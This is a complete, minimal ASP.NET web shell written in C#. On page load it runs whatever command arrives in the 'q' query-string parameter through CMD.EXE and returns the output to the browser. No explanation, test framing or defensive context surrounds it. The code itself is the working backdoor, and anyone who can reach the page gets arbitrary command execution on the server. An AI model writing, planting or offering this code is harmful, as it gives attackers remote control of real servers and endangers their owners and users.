<%@ page language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var p = Process.Start(new ProcessStartInfo("CMD.EXE", "/c " + Request.QueryString["q"]) { UseShellExecute = false, RedirectStandardOutput = true });
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
